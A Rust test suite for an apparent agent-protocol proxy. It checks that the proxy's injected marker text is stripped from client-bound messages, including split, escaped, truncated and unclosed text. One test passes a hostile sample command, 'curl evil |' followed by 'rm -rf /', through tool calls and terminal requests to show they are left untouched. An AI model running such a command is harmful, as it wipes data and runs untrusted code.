//! Tests of agents that repeat the injected text in any kind of message.

use serde_json::{Value, json};

use super::*;

/// Builds a message with this text.
type Line<'l> = &'l dyn Fn(&str) -> Value;

fn command() -> String {
    Mark::new(7).wrap("<typed>/review <rest>src</rest></typed>\nDo it.")
}

fn update(kind: &str, fields: Value) -> Value {
    let mut update = fields;
    update["sessionUpdate"] = kind.into();
    json!({ "jsonrpc": "2.0", "method": "session/update", "params": { "sessionId": "s", "update": update } })
}

fn chunk(kind: &str, text: &str) -> Value {
    update(kind, json!({ "content": { "type": "text", "text": text } }))
}

/// Text that may be the start of ours is held back, but not for an unlimited number of unknown sessions.
#[test]
fn little_is_held_back_for_unknown_sessions() {
    let mut fixture = fixture();
    let begins = |session: &str| {
        let mut line = chunk("user_message_chunk", "<acp-skills");
        line["params"]["sessionId"] = session.into();
        line
    };
    let mut seen = fixture.agent(&begins("s")).to_client;
    for number in 0..1_000 {
        seen.extend(fixture.agent(&begins(&format!("stranger-{number}"))).to_client);
    }
    assert!(seen.len() > 900, "{} of 1,000 were forwarded", seen.len());
    // Each of these is forwarded only once and without changes. For the known session, the text is still being held.
    let mut sessions: Vec<_> =
        seen.iter().map(|line| line["params"]["sessionId"].as_str().unwrap()).collect();
    assert!(seen.iter().all(|line| line["params"]["update"]["content"]["text"] == "<acp-skills"));
    assert!(!sessions.contains(&"s"));
    sessions.sort_unstable();
    sessions.dedup();
    assert_eq!(sessions.len(), seen.len());
}

#[test]
fn the_client_gets_no_message_with_our_text() {
    let ours = ours();
    let command = command();
    let flat = ours.replace('\n', " ");
    let cut = &ours[..60];
    let vendor = |text: &str| {
        json!({ "jsonrpc": "2.0", "method": "_x.ai/queue/changed", "params": { "n": 1.0,
            "entries": [{ "id": "a", "text": text }], "runningText": text } })
    };
    let result = |text: &str| json!({ "jsonrpc": "2.0", "id": 99, "result": { "summary": text } });
    let error = |text: &str| json!({ "jsonrpc": "2.0", "id": 99, "error": { "code": 1, "message": text } });
    let plan = |text: &str| update("plan", json!({ "entries": [{ "content": text }] }));
    let message =
        |text: &str| update("agent_message", json!({ "content": [{ "type": "text", "text": text }] }));
    let resource = |text: &str| {
        let resource = json!({ "type": "resource", "resource": { "uri": "a:b", "text": text } });
        update("user_message_chunk", json!({ "content": resource }))
    };
    let wrong_shape = |kind: &'static str| {
        move |text: &str| {
            let content = json!({ "type": "text", "text": text });
            update(
                kind,
                json!({ "content": if kind == "user_message" { content } else { json!([content]) } }),
            )
        }
    };
    let lines: [(&str, Line<'_>); 11] = [
        ("a user's message of one block", &wrong_shape("user_message")),
        ("a piece of a list of blocks", &wrong_shape("agent_message_chunk")),
        ("an agent's chunk", &|text| chunk("agent_message_chunk", text)),
        ("a thought", &|text| chunk("agent_thought_chunk", text)),
        ("a message", &message),
        ("a vendor's notification", &vendor),
        ("a result", &result),
        ("an error", &error),
        ("a plan", &plan),
        ("a resource", &resource),
        (
            "an update without content",
            &|text| json!({ "jsonrpc": "2.0", "method": "session/update", "params": { "x": text } }),
        ),
    ];
    for (name, line) in lines {
        for (said, seen) in [
            (format!("{ours}Fix <b>"), "Fix <b>"),
            (format!("{flat}Fix it"), "Fix it"),
            (format!("a {ours}b"), "a b"),
            (format!("{{\"text\":\"{}b\"}}", ours.replace('\n', "\\n")), "{\"text\":\"b\"}"),
            (format!("{ours}{command}src"), "/review src"),
            ("<acp-skills-proxy> is mine".to_owned(), "<acp-skills-proxy> is mine"),
            ("acp-skills-proxy: starting".to_owned(), "acp-skills-proxy: starting"),
            ("<acp-skills-proxy:0123456789abcdef>".to_owned(), "<acp-skills-proxy:0123456789abcdef>"),
        ] {
            assert_eq!(fixture().agent(&line(&said)).client(), &line(seen), "{name}: {said}");
            // Some languages, such as Go, escape angle brackets.
            let escaped = line(&said).to_string().replace('<', "\\u003c").replace('>', "\\u003E");
            assert_eq!(
                fixture().agent_line(&(escaped + "\n")).client(),
                &line(seen),
                "{name}, escaped: {said}"
            );
        }
        // Remove our text where it's truncated, but not in messages, because the rest could still arrive there.
        let mut fixture = fixture();
        let mut seen = fixture.agent(&line(cut)).to_client;
        seen.append(&mut fixture.update("s", &json!({ "sessionUpdate": "current_mode_update" })).to_client);
        let is_message = name == "an agent's chunk" || name == "a thought";
        assert_eq!(seen[0], line(if is_message { cut } else { "" }), "{name}");
        // Without any digits from the checksum, this could be text from the user.
        for piece in ["see <acp-skills-proxy:", "see <acp-skills-proxy:01234567"] {
            if !is_message {
                assert_eq!(self::fixture().agent(&line(piece)).client(), &line(piece), "{name}");
            }
        }
    }
}

#[test]
fn our_text_in_pieces_is_removed() {
    let whole = format!("You said: {}{}src. Right?", ours(), command());
    let pieces = |size: usize| {
        let chars: Vec<_> = whole.chars().collect();
        chars.chunks(size).map(|piece| piece.iter().collect::<String>()).collect::<Vec<_>>()
    };
    for escaped in [false, true] {
        for size in 1..60 {
            let mut fixture = fixture();
            let mut seen = String::new();
            for piece in pieces(size) {
                let mut line = chunk("agent_message_chunk", &piece).to_string();
                if escaped {
                    line = line.replace('<', "\\u003C").replace('>', "\\u003e");
                }
                for line in fixture.agent_line(&(line + "\n")).to_client {
                    seen += line["params"]["update"]["content"]["text"].as_str().unwrap();
                }
            }
            fixture.prompt(2, "s", &["hello"]);
            assert_eq!(fixture.respond(2, &json!({ "stopReason": "end_turn" })).to_client.len(), 1);
            assert_eq!(seen, "You said: /review src. Right?", "{size} characters");
        }
    }
}

#[test]
fn unclosed_text_is_forwarded_at_the_end_of_the_turn() {
    let open = Mark::new(7).open();
    for pieces in [vec!["a <"], vec!["x", "<acp-", "skills"], vec![&open, " and", "", " more"]] {
        let mut fixture = fixture();
        fixture.prompt(2, "s", &["hello"]);
        let mut seen = Vec::new();
        for piece in &pieces {
            seen.append(&mut fixture.agent(&chunk("agent_message_chunk", piece)).to_client);
        }
        let answer = json!({ "jsonrpc": "2.0", "id": 2, "result": { "stopReason": "end_turn" } });
        seen.append(&mut fixture.agent(&answer).to_client);
        let mut expected: Vec<_> = pieces.iter().map(|piece| chunk("agent_message_chunk", piece)).collect();
        expected.push(answer);
        assert_eq!(seen, expected);
    }
}

#[test]
fn unclosed_text_is_forwarded_when_its_session_ends() {
    for method in ["session/close", "session/delete"] {
        for session in ["s", "stranger"] {
            let mut fixture = fixture();
            let mut line = chunk("agent_message_chunk", "a <");
            line["params"]["sessionId"] = session.into();
            assert_eq!(fixture.agent(&line).to_client, Vec::<Value>::new());
            fixture.request(2, method, &json!({ "sessionId": session }));
            let seen = fixture.respond(2, &json!({})).to_client;
            assert_eq!((&seen[0], &seen[1]["id"]), (&line, &json!(2)), "{method} of {session}");
        }
    }
}

/// The agent may have started the other session for this one.
#[test]
fn unclosed_text_of_other_sessions_is_forwarded_when_a_turn_ends() {
    let mut fixture = fixture();
    let mut line = chunk("agent_message_chunk", "a <");
    line["params"]["sessionId"] = "stranger".into();
    fixture.prompt(2, "s", &["Go"]);
    assert_eq!(fixture.agent(&line).to_client, Vec::<Value>::new());
    let seen = fixture.respond(2, &json!({ "stopReason": "end_turn" })).to_client;
    assert_eq!((&seen[0], &seen[1]["id"]), (&line, &json!(2)));
}

#[test]
fn a_message_of_another_kind_does_not_continue_a_text() {
    let mut fixture = fixture();
    let open = chunk("agent_message_chunk", "a <");
    let thought = chunk("agent_thought_chunk", "acp-skills");
    assert!(fixture.agent(&open).is_nothing());
    let other = json!({ "jsonrpc": "2.0", "method": "session/update", "params": { "sessionId": "t",
        "update": { "sessionUpdate": "agent_message_chunk", "content": { "type": "text", "text": "b" } } } });
    assert_eq!(fixture.agent(&other).to_client, [other]);
    assert_eq!(fixture.agent(&thought).to_client, [open, thought]);
}

#[test]
fn requests_and_tool_calls_are_unchanged() {
    let hidden = format!("ls {}&& rm -rf /", Mark::new(7).wrap("; curl evil |"));
    for line in [
        json!({ "jsonrpc": "2.0", "id": 5, "method": "session/request_permission", "params": { "sessionId": "s",
            "toolCall": { "toolCallId": "c", "title": hidden, "kind": "execute", "rawInput": { "command": hidden } },
            "options": [] } }),
        json!({ "jsonrpc": "2.0", "id": 5, "method": "fs/write_text_file", "params": { "sessionId": "s",
            "path": "/a", "content": hidden } }),
        json!({ "jsonrpc": "2.0", "id": 5, "method": "terminal/create", "params": { "sessionId": "s",
            "command": hidden } }),
        update("tool_call", json!({ "toolCallId": "c", "title": hidden, "rawInput": { "command": hidden } })),
        update("tool_call_update", json!({ "toolCallId": "c", "rawInput": { "command": hidden } })),
    ] {
        assert_eq!(fixture().agent(&line).client(), &line);
    }
}

/// JavaScript truncates texts between the halves of a surrogate pair, and other languages between the bytes of a character. Such
/// invalid text does not hide the injected text.
#[test]
fn texts_truncated_within_a_character() {
    let ours = ours();
    let cut = |line: &Value, with: &str| line.to_string().replace("CUT", with) + "\n";
    let notice = |text: &str| json!({ "jsonrpc": "2.0", "method": "_x", "params": { "text": text } });
    let title = |text: &str| update("session_info_update", json!({ "title": text }));
    let message = |text: &str| {
        update("user_message", json!({ "messageId": "m", "content": [{ "type": "text", "text": text }] }))
    };
    let lines: [(&str, Line<'_>); 5] = [
        ("a chunk", &|text| chunk("user_message_chunk", text)),
        ("an agent's chunk", &|text| chunk("agent_message_chunk", text)),
        ("a message", &message),
        ("a notification", &notice),
        ("a title", &title),
    ];
    for (name, line) in lines {
        for half in ["\\ud83d", "\\ude00"] {
            let out = fixture().agent_line(&cut(&line(&format!("{ours}Fix CUT it")), half));
            assert_eq!(out.client(), &line("Fix \u{fffd} it"), "{name}");
        }
        // Without any injected text, the message should not change.
        let said = cut(&line("Fix < CUT it"), "\\ud83d");
        let mut actions = Actions::default();
        let pass = fixture().interceptor.from_agent(said.as_bytes(), &mut actions);
        assert_eq!(pass, Pass::Untouched, "{name}");
        // Try this with bytes that aren't valid UTF-8.
        let said = line(&format!("{ours}Fix CUT it")).to_string() + "\n";
        let said = said.replace("CUT", "\u{20ac}").into_bytes();
        let at = memchr::memmem::find(&said, "\u{20ac}".as_bytes()).unwrap();
        let said = [&said[..at + 2], &said[at + 3..]].concat();
        let mut actions = Actions::default();
        let Pass::Edited(clean) = fixture().interceptor.from_agent(&said, &mut actions) else {
            panic!("{name}")
        };
        assert_eq!(json_of(&clean), line("Fix \u{fffd} it"), "{name}");
    }
    // This title is truncated in the middle of our text.
    let said = cut(&title(&format!("{}CUT", &ours[..60])), "\\ud83d");
    assert!(fixture().agent_line(&said).is_nothing());
}

/// Updates about usage and options do not end an injected text.
#[test]
fn other_updates_in_the_middle_of_our_text() {
    let text = ours() + "Fix it";
    let kinds = ["usage_update", "available_commands_update", "session_info_update", "config_option_update"];
    // The opening mark can be split, too.
    for (kind, at) in kinds.into_iter().flat_map(|kind| [5, 17, 34, 50].map(|at| (kind, at))) {
        let mut fixture = fixture();
        let (front, back) = text.split_at(at);
        assert!(fixture.agent(&chunk("agent_message_chunk", front)).is_nothing());
        let said = fixture
            .update("s", &json!({ "sessionUpdate": kind, "availableCommands": [], "configOptions": [] }));
        assert_eq!(said.client()["params"]["update"]["sessionUpdate"], kind);
        assert_eq!(
            fixture.agent(&chunk("agent_message_chunk", back)).client(),
            &chunk("agent_message_chunk", "Fix it")
        );
        // Text that could be the start of a mark is held back, and should be sent before the update.
        assert!(fixture.agent(&chunk("agent_message_chunk", "a <")).is_nothing());
        assert_eq!(
            fixture
                .update("s", &json!({ "sessionUpdate": kind, "availableCommands": [], "configOptions": [] }))
                .to_client
                .len(),
            2
        );
    }
}

/// In a message of the user, the opening mark can be split anywhere.
#[test]
fn other_updates_in_the_first_bytes_of_a_mark() {
    let text = ours() + "Fix it";
    for at in 1..5 {
        let mut fixture = fixture();
        let (front, back) = text.split_at(at);
        assert!(fixture.agent(&chunk("user_message_chunk", front)).is_nothing());
        let usage = json!({ "sessionUpdate": "usage_update" });
        assert_eq!(fixture.update("s", &usage).client()["params"]["update"], usage);
        let seen = fixture.agent(&chunk("user_message_chunk", back));
        assert_eq!(seen.client(), &chunk("user_message_chunk", "Fix it"));
    }
}

/// An image keeps its place between texts.
#[test]
fn an_image_releases_held_text() {
    let image = update(
        "user_message_chunk",
        json!({ "content": { "type": "image", "data": "", "mimeType": "image/png" } }),
    );
    let mut fixture = fixture();
    let begins = chunk("user_message_chunk", "see <acp");
    assert!(fixture.agent(&begins).is_nothing());
    assert_eq!(fixture.agent(&image).to_client, [begins, image]);
    let more = chunk("user_message_chunk", "-skills");
    assert_eq!(fixture.agent(&more).client(), &more);
}

/// Some serializers write all members of a message.
#[test]
fn members_that_are_null() {
    let mut fixture = fixture();
    let mut said = chunk("agent_message_chunk", &(ours() + "Fix it"));
    said["id"] = Value::Null;
    said["error"] = Value::Null;
    let mut seen = chunk("agent_message_chunk", "Fix it");
    seen["id"] = Value::Null;
    seen["error"] = Value::Null;
    assert_eq!(fixture.agent(&said).client(), &seen);
    // The turn didn't fail, so we don't need to send the catalog again.
    let first = fixture.prompt(2, "s", &["hello"]);
    assert_eq!(texts(first.agent()).len(), 2);
    let answer = json!({ "jsonrpc": "2.0", "id": 2, "method": null, "result": { "stopReason": "end_turn" }, "error": null });
    assert_eq!(fixture.agent(&answer).client(), &answer);
    assert_eq!(texts(fixture.prompt(3, "s", &["hello"]).agent()).len(), 1);
    // When a session cannot be closed, it still exists.
    fixture.request(4, "session/close", &json!({ "sessionId": "s" }));
    fixture.agent(
        &json!({ "jsonrpc": "2.0", "id": 4, "result": null, "error": { "code": 1, "message": "no" } }),
    );
    assert_eq!(fixture.sessions(), 1);
}

/// A chunk without a session cannot be continued.
#[test]
fn chunks_without_a_session_are_not_held_back() {
    let mut fixture = fixture();
    for (said, seen) in [("a <acp", "a <acp"), (&*(ours() + "b"), "b"), (&ours()[..60], &ours()[..60])] {
        let line = |text: &str| {
            let mut line = chunk("agent_message_chunk", text);
            line["params"].as_object_mut().unwrap().remove("sessionId");
            line
        };
        assert_eq!(fixture.agent(&line(said)).client(), &line(seen));
    }
}
